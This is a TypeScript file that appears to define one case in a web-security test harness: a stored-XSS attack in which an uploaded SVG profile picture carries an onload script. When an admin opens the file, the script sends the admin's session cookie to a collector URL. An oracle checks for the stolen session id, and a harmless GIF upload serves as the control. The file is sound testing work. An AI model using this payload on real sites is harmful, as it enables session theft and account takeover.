import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { attackerAccount, logIn } from '../../attack/attacker.ts'
import { upload } from '../../visitor/upload.ts'

/** Uploads a drawing with a script and has the office open it. */
export const uploadSvgScript: Attack = defineAttack({
  id: 'upload-svg-script',
  class: 'file-upload',
  title: 'Uploads a drawing with a script and has the office open it',
  cwe: 434,
  capec: 17,
  technique: 'T1539',
  preconditions: [attackerAccount, 'somebody who is logged in opens the file'],
  steps: async ({ visitor, victim, sink }) => {
    await logIn(visitor)
    const data = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${sink.url('loot?c=')}'+encodeURIComponent(document.cookie))"/>`
    await upload(visitor, '/account/picture', {
      field: 'picture',
      fileName: 'me.svg',
      type: 'image/svg+xml',
      data,
    })
    await (await victim('admin')).open('/uploads/me.svg')
  },
  oracle: (_nothing, { sink }) => sink.hits().some((hit) => hit.path.includes('sid%3D')),
  twin: async ({ visitor }) => {
    await logIn(visitor)
    const data = 'GIF89a plain pixels; onload = none'
    return upload(visitor, '/account/picture', {
      field: 'picture',
      fileName: 'me.gif',
      type: 'image/gif',
      data,
    })
  },
})
